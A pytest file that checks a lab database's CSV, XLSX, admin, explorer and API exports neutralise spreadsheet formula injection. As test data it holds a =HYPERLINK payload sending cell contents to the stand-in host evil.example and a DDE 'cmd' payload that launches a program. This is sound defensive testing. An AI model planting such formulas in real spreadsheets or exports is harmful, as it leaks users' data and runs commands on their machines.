"""Formula injection: every CSV/XLSX export neutralises cells a spreadsheet would run.

A sample code ``=HYPERLINK(...)`` (and notes starting with + - @ tab CR) goes into the database;
every export path is read back with pandas / openpyxl and the cell must be text, prefixed with
an apostrophe, never a formula. Plain negative numbers stay numbers.
"""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from labdb.lib.exports import neutralise_cell, restore_cell
from synthesis.importing import export_table, import_table
from synthesis.models import Sample
from tests.synthesis import builders

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),
        ("+3e-4", "+3e-4"),
        ("NPL-CdSe-4.5ML", "NPL-CdSe-4.5ML"),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected
    assert restore_cell(neutralise_cell(value)) == value


@pytest.fixture
def evil_sample():
    return builders.sample(EVIL, core_ml=4.5, notes="@SUM(1+1)*cmd")


def test_sample_csv_export_neutralises_formula(evil_sample):
    frame = pd.read_csv(io.BytesIO(export_table(kind="samples", file_format="csv")), dtype=str)
    row = frame[frame.code == "'" + EVIL].iloc[0]
    assert row["notes"] == "'@SUM(1+1)*cmd"
    assert not frame.code.str.startswith("=").any()


def test_sample_xlsx_export_cell_is_text_not_formula(evil_sample):
    book = openpyxl.load_workbook(io.BytesIO(export_table(kind="samples", file_format="xlsx")))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("code")] for row in sheet.iter_rows(min_row=2)]
    evil = [c for c in cells if c.value == "'" + EVIL]
    assert len(evil) == 1
    assert evil[0].data_type == "s"  # a string cell; a formula would be data_type "f"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_reimport_of_neutralised_export_keeps_original_code(evil_sample):
    xlsx = export_table(kind="samples", file_format="xlsx")
    result = import_table(kind="samples", content=xlsx, file_format="xlsx")
    assert result["new"] == 0
    assert Sample.objects.filter(code=EVIL).count() == 1
    assert Sample.objects.get(code=EVIL).notes == "@SUM(1+1)*cmd"


def test_admin_export_neutralises_formula(client, curator, evil_sample):
    curator.is_staff = True
    curator.save()
    client.force_login(curator)
    form = client.get("/admin/synthesis/sample/export/").context["form"]
    data = {name: "on" for name in form.fields if name.startswith("sampleresource_")}
    data.update({"format": "0", "resource": "0"})  # format 0 is CSV
    response = client.post("/admin/synthesis/sample/export/", data)
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8-sig")
    assert "'" + EVIL.replace('"', '""') in text
    assert "\n" + EVIL not in text and "," + EVIL not in text


def test_explorer_csv_neutralises_formula(client, member, evil_sample):
    client.force_login(member)
    response = client.get("/explore/", {"format": "csv"})
    frame = pd.read_csv(io.BytesIO(response.content), dtype=str)
    assert list(frame.sample_code) == ["'" + EVIL]


def test_api_frame_csv_and_xlsx_neutralise_formula(api, evil_sample):
    csv = api.get("/api/analysis/frame/", {"format": "csv"})
    assert csv.status_code == 200, csv.content[:300]
    frame = pd.read_csv(io.BytesIO(csv.content), dtype=str)
    assert list(frame.sample_code) == ["'" + EVIL]
    xlsx = api.get("/api/analysis/frame/", {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("sample_code") + 1)
    assert (cell.value, cell.data_type) == ("'" + EVIL, "s")
